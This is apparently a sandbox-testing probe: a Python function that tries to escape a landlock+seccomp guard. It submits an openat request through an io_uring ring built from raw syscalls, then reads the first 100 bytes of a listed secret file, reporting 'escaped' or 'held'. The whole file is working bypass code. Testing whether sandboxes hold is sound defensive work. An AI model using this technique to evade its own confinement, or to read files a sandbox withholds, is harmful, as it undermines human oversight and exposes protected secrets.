"""Hands the opening to the kernel through a ring of requests, which seccomp would not see one by one.

guard: landlock+seccomp
"""

import ctypes
import mmap
import os
import struct

OPENAT = 18


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    parameters = (ctypes.c_uint32 * 30)()
    ring = libc.syscall(425, 4, parameters)  # io_uring_setup; these numbers hold on every architecture
    if ring < 0:
        return "held"
    sq, cq = parameters[10:19], parameters[20:29]  # offsets: head, tail, mask, entries, flags, ...
    rings = mmap.mmap(ring, 4096)
    entries = mmap.mmap(ring, 4 * 64, offset=0x10000000)
    path = ctypes.create_string_buffer(SECRET_FILES[0].encode())
    entries[:40] = struct.pack("<BBHiQQIIQ", OPENAT, 0, 0, -100, 0, ctypes.addressof(path), 0, 0, 0)
    struct.pack_into("<I", rings, sq[6], 0)
    struct.pack_into("<I", rings, sq[1], 1)
    libc.syscall(426, ring, 1, 1, 1, None, 0)  # io_uring_enter: submit one, wait for it
    fd = struct.unpack_from("<i", rings, cq[5] + 8)[0]
    return "escaped: " + os.read(fd, 100).decode() if fd >= 0 else f"held: {fd}"
